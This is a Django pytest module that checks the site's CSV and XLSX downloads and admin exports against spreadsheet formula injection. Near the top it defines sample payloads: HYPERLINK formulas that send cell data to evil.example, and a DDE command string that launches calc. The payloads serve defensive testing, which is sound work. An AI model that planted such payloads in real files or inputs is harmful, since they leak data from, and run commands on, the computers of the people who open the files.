"""Formula injection: every CSV and XLSX the site writes shows typed text as text.

Text beginning with =, +, -, @, a tab or a carriage return gets a leading apostrophe, in the
public downloads, the admin's exports of every resource, the fee list and the completeness
overview; real numbers stay numbers. Each prefix is tried on each export, entered the way a
user would (the year form, the application form) where a user can type it.
"""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from common.import_formats import sniff_delimiter
from common.spreadsheets import Sheet, csv_bytes, safe_cell, xlsx_bytes
from indicators.models import Indicator, IndicatorValue
from members.models import ContactPerson, MembershipApplication
from members.services import membership_approve
from tests.admin_imports import CSV, XLSX, export
from tests.indicators.factories import IndicatorValueFactory
from tests.indicators.reporting_support import YEAR, page_post, year_url
from tests.members.factories import (
    ContactPersonFactory,
    FeeScheduleFactory,
    MembershipFactory,
    MunicipalityFactory,
    OrganisationAccessFactory,
    PopulationFactory,
    UserFactory,
    pdf_bytes,
)

pytestmark = pytest.mark.django_db

# The review's payload, and the same attack behind every other prefix a spreadsheet runs.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"klick")'
PAYLOADS = {
    "=": HYPERLINK,
    "+": '+HYPERLINK("http://evil.example/?"&A1)',
    "-": '-1+HYPERLINK("http://evil.example/?"&A1)',
    "@": '@SUM(1+1)*cmd|" /C calc"!A0',
    "tab": '\t=HYPERLINK("http://evil.example/")',
    "carriage return": '\r=HYPERLINK("http://evil.example/")',
}
PREFIXES = pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())


def csv_cells(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    # The site's files use semicolons; the admin's exports the library's commas.
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=sniff_delimiter(text)))


def xlsx_cells(content: bytes, sheet: str | None = None) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return list((book[sheet] if sheet else book.active).iter_rows())


def assert_csv_neutralised(content: bytes, typed: str):
    """The typed text is in the file, behind an apostrophe, and no cell starts a formula."""
    cells = [cell for row in csv_cells(content) for cell in row]
    assert "'" + typed in cells
    assert typed not in cells
    for cell in cells:
        assert not cell.startswith(("=", "@", "\t", "\r")), cell


def assert_xlsx_neutralised(content: bytes, typed: str, sheet: str | None = None):
    cells = [cell for row in xlsx_cells(content, sheet) for cell in row]
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    # XML turns a stored carriage return into a line feed when it is read back.
    expected = "'" + typed.replace("\r", "\n")
    assert expected in [text.replace("\r", "\n") for text in texts]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    for text in texts:
        assert not text.startswith(("=", "+", "@", "\t", "\r")), text


# --- The shared rule ---------------------------------------------------------------------


@PREFIXES
def test_the_shared_writer_neutralises_each_prefix_and_keeps_numbers(payload):
    rows = [[payload, Decimal("-3.50"), -7, 2.5, "-4,25", "0665", datetime.date(2024, 5, 1)]]
    assert csv_cells(csv_bytes(rows, header=["a", "b", "c", "d", "e", "f", "g"]))[1] == [
        "'" + payload,
        "-3,5",
        "-7",
        "2,5",
        "-4,25",  # a signed number typed as text is a number, not a formula
        "0665",
        "2024-05-01",
    ]
    book = xlsx_bytes([Sheet(title="Blad", header=["a", "b", "c", "d"], rows=[rows[0][:4]])])
    row = xlsx_cells(book)[1]
    assert row[0].value.replace("\n", "\r") == "'" + payload
    assert (row[1].value, row[2].value, row[3].value) == (-3.5, -7, 2.5)
    assert [cell.data_type for cell in row] == ["s", "n", "n", "n"]
    assert safe_cell(Decimal("-1")) == Decimal("-1")


def test_xlsx_columns_are_as_wide_as_their_contents_within_limits():
    rows = [["0665", "Vaggeryd", "x" * 500, Decimal("12345.678")]]
    sheet = openpyxl.load_workbook(
        io.BytesIO(
            xlsx_bytes([Sheet(title="Blad", header=["kod", "namn", "text", "v"], rows=rows)])
        )
    ).active
    widths = [sheet.column_dimensions[letter].width for letter in "ABCD"]
    assert widths == [6, 10, 60, 11]


# --- Public downloads: a source note typed in the year form -------------------------------


@pytest.fixture
def vaggeryd():
    return MunicipalityFactory(code="0665")


def report_through_the_year_form(client, organisation, typed: str) -> IndicatorValue:
    reporter = OrganisationAccessFactory(user__username="strateg", organisation=organisation).user
    client.force_login(reporter)
    response = client.post(
        year_url(organisation),
        page_post(
            {"GN.7": {"value": "87,5", "source_note": typed, "comment": typed}, "GN.8a": "2,47"}
        ),
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    client.logout()
    return IndicatorValue.objects.get(organisation=organisation, indicator__code="GN.7")


@PREFIXES
def test_public_member_and_indicator_downloads_neutralise_typed_text(client, vaggeryd, payload):
    value = report_through_the_year_form(client, vaggeryd, payload)
    typed = value.source_note  # as the form stored it (a form trims surrounding whitespace)
    assert typed.startswith(("=", "+", "-", "@"))
    # A negative figure (no catalogue figure allows one today, an import might): a number.
    IndicatorValueFactory(
        organisation=vaggeryd,
        indicator=Indicator.objects.get(revision__code="2023", code="GN.7"),
        year=YEAR - 1,
        value="-3.5",
    )

    compared = "?nyckeltal=GN.7&medlem=0665"  # the compare page's download is one of them
    for url in ["/kommun/0665/data.csv", "/nyckeltal/GN.7/data.csv", "/jamfor/data.csv" + compared]:
        content = client.get(url).content
        assert_csv_neutralised(content, typed)
        assert ["GN.7", "2023", "-3,5"] in [[r[3], r[6], r[7]] for r in csv_cells(content)]
    for url in [
        "/kommun/0665/data.xlsx",
        "/nyckeltal/GN.7/data.xlsx",
        "/jamfor/data.xlsx" + compared,
    ]:
        content = client.get(url).content
        assert_xlsx_neutralised(content, typed, sheet="Värden")
        row = next(r for r in xlsx_cells(content, "Värden") if r[6].value == YEAR - 1)
        assert (row[7].value, row[7].data_type) == (-3.5, "n")


@PREFIXES
def test_the_compare_and_older_revision_downloads_neutralise_typed_text(client, vaggeryd, payload):
    MembershipFactory(organisation=vaggeryd)
    typed = report_through_the_year_form(client, vaggeryd, payload).source_note
    compare = "?nyckeltal=GN.7&medlem=0665"
    for url in [f"/jamfor/data.csv{compare}", "/nyckeltal/2023/GN.7/data.csv"]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_csv_neutralised(response.content, typed)
    for url in [f"/jamfor/data.xlsx{compare}", "/nyckeltal/2023/GN.7/data.xlsx"]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_xlsx_neutralised(response.content, typed, sheet="Värden")


def test_the_indicator_download_has_the_sekom_average_of_each_year(client):
    tonnage = Indicator.objects.get(revision__code="2023", code="GN.1a")
    for code, value in [("0665", "2.4"), ("0680", "1.9"), ("0687", "3.1")]:
        organisation = MunicipalityFactory(code=code)
        MembershipFactory(organisation=organisation)
        IndicatorValueFactory(organisation=organisation, indicator=tonnage, year=2021, value=value)
    IndicatorValueFactory(
        organisation=MunicipalityFactory(code="0665"), indicator=tonnage, year=2022, value="2"
    )

    rows = csv_cells(client.get("/nyckeltal/GN.1a/data.csv").content)
    header = rows[0]
    # GN.1a is a national figure: Sweden's average (everyone with a value) follows SEKOM's.
    assert header[-3:] == ["SEKOM-snitt", "Sverige-snitt", "antal i Sverige"]
    sekom = header.index("SEKOM-snitt")
    assert {(row[6], row[sekom]) for row in rows[1:]} == {("2021", "2,467"), ("2022", "2")}

    book = openpyxl.load_workbook(io.BytesIO(client.get("/nyckeltal/GN.1a/data.xlsx").content))
    averages = list(book["SEKOM-snitt"].iter_rows(values_only=True))
    assert averages == [
        ("år", "SEKOM-snitt", "antal medlemmar med värde", "Sverige-snitt",
         "antal i Sverige med värde"),
        (2021, 2.467, 3, 2.467, 3),  # one decimal more than the figure's two
        (2022, 2, 1, 2, 1),
    ]  # fmt: skip
    values = book["Värden"]
    column = next(cell.column_letter for cell in values[1] if cell.value == "SEKOM-snitt")
    assert values[f"{column}2"].value == 2.467
    assert book["Värden"].column_dimensions["F"].width > 20  # the indicator's long name


# --- Admin exports (django-import-export) ------------------------------------------------


@PREFIXES
def test_the_admin_value_export_neutralises_a_comment_from_the_year_form(
    client, admin_client, vaggeryd, payload
):
    typed = report_through_the_year_form(client, vaggeryd, payload).comment
    IndicatorValueFactory(
        organisation=vaggeryd,
        indicator=Indicator.objects.get(revision__code="2023", code="GN.7"),
        year=YEAR - 1,
        value="-3.5",
    )
    content = export(admin_client, "indicators_indicatorvalue", CSV)
    assert_csv_neutralised(content, typed)
    header, *rows = csv_cells(content)
    # A negative number stays as it is.
    assert "-3.5" in [row[header.index("värde")] for row in rows]
    content = export(admin_client, "indicators_indicatorvalue", XLSX)
    assert_xlsx_neutralised(content, typed)
    header, *rows = [[cell.value for cell in row] for row in xlsx_cells(content)]
    assert "-3.5" in [row[header.index("värde")] for row in rows]


def apply_through_the_form(client, phone: str):
    def pdf(name):
        return SimpleUploadedFile(name, pdf_bytes(), content_type="application/pdf")

    response = client.post(
        "/ansok/",
        {
            "organisation": "0665",
            "deciding_body": "kf",
            "decided_on": "2025-01-27",
            "decision_document": pdf("beslut.pdf"),
            "programme_document": pdf("program.pdf"),
            "politician_name": "Eva Ek",
            "politician_title": "Kommunstyrelsens ordförande",
            "politician_party": "C",
            "politician_email": "eva.ek@vaggeryd.example.se",
            "politician_phone": "0393-780 00",
            "official_name": "Olle Holm",
            "official_title": "Miljöstrateg",
            "official_email": "olle.holm@vaggeryd.example.se",
            "official_phone": phone,
            "applicant_email": "registrator@vaggeryd.example.se",
        },
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    return MembershipApplication.objects.get(membership__organisation__code="0665")


@PREFIXES
def test_the_admin_contact_export_neutralises_a_phone_number_typed_by_an_applicant(
    client, admin_client, payload
):
    application = apply_through_the_form(client, payload[:40])
    membership_approve(
        membership=application.membership,
        board_meeting_on=timezone.localdate(),
        site_url="http://testserver",
    )
    typed = ContactPerson.objects.get(role="official").phone
    assert typed.startswith(("=", "+", "-", "@"))
    assert_csv_neutralised(export(admin_client, "members_contactperson", CSV), typed)
    assert_xlsx_neutralised(export(admin_client, "members_contactperson", XLSX), typed)


@PREFIXES
def test_the_admin_membership_and_catalogue_exports_neutralise_names(admin_client, payload):
    MembershipFactory(organisation=MunicipalityFactory(code="9901", name=payload))
    Indicator.objects.filter(revision__code="2023", code="GN.7").update(name=payload)
    for model in ["members_membership", "indicators_indicator"]:
        assert_csv_neutralised(export(admin_client, model, CSV), payload)
        assert_xlsx_neutralised(export(admin_client, model, XLSX), payload)


# --- The fee list and the completeness overview -------------------------------------------


@PREFIXES
def test_the_fee_list_neutralises_the_officials_name_and_keeps_fees_numbers(admin_client, payload):
    FeeScheduleFactory(year=2024)
    membership = MembershipFactory(organisation=MunicipalityFactory(code="0665"))
    PopulationFactory(municipality=membership.organisation, year=2024, inhabitants=14000)
    ContactPersonFactory(membership=membership, name=payload, email="olle@vaggeryd.example.se")

    url = reverse("admin:members_feeschedule_export", args=[2024, "csv"])
    content = admin_client.get(url).content
    assert_csv_neutralised(content, payload)
    assert csv_cells(content)[1][8] == "8200"
    content = admin_client.get(reverse("admin:members_feeschedule_export", args=[2024, "xlsx"]))
    assert_xlsx_neutralised(content.content, payload)
    row = xlsx_cells(content.content)[1]
    assert (row[8].value, row[8].data_type) == (8200, "n")


@PREFIXES
def test_the_completeness_overview_neutralises_member_names(client, payload):
    MembershipFactory(organisation=MunicipalityFactory(code="9902", name=payload))
    client.force_login(UserFactory(is_staff=True))
    content = client.get(reverse("reporting_overview_csv", args=[YEAR])).content
    assert_csv_neutralised(content, payload)


@PREFIXES
def test_a_neutralised_download_reads_back_unchanged_through_the_import(client, vaggeryd, payload):
    from indicators.importers import read_file, values_import

    value = report_through_the_year_form(client, vaggeryd, payload)
    for fmt in ["csv", "xlsx"]:
        content = client.get(f"/kommun/0665/data.{fmt}").content
        report = values_import(read=read_file(content, fmt=fmt))
        assert report.ok, report.errors
        assert (report.created, report.updated, report.unchanged) == (0, 0, 2)
        value.refresh_from_db()
        assert value.source_note == payload.strip()


@PREFIXES
def test_a_text_repeated_down_a_column_is_neutralised_in_every_row(payload):
    # Equally long rows are written column by column, each distinct text once: every copy of a
    # formula is still plain text, and numbers equal in value keep their own digits.
    rows = [
        [payload, "Vaggeryd", Decimal("1.5") if n % 2 else Decimal("1.50"), n] for n in range(6)
    ]
    content = xlsx_bytes([Sheet(title="Värden", header=["a", "b", "c", "d"], rows=rows)])
    cells = xlsx_cells(content)
    for n, (typed, name, number, year) in enumerate(cells[1:]):
        # (XML reads a carriage return back as a line feed)
        assert typed.value.replace("\n", "\r") == "'" + payload
        assert (name.value, number.value, year.value) == ("Vaggeryd", 1.5, n)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert sheet.count("<v>1.5</v>") == 3 and sheet.count("<v>1.50</v>") == 3


def test_numbers_repeated_down_a_column_are_written_once_each_yet_as_they_are():
    # A column of averages repeats each year's number in every row: written once per distinct
    # text, so zero and minus zero, 2 and 2.0, a Decimal and a float keep what they are.
    column = [Decimal("0"), Decimal("-0"), Decimal("2"), Decimal("2.0"), 2.0, -0.0, None]
    rows = [[value, n] for n in (10, 11, 12) for value in column]
    content = xlsx_bytes([Sheet(title="Värden", header=["medel", "n"], rows=rows)])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    counts = {text: sheet.count(f"<v>{text}</v>") for text in ("0", "-0", "2", "2.0", "-0.0")}
    # The Decimal 2.0 and the float 2.0 write alike; every other number as itself, per row.
    assert counts == {"0": 3, "-0": 3, "2": 3, "2.0": 6, "-0.0": 3}
    assert sheet.count('<c r="A') == 1 + 6 * 3  # the header, and no cell for None
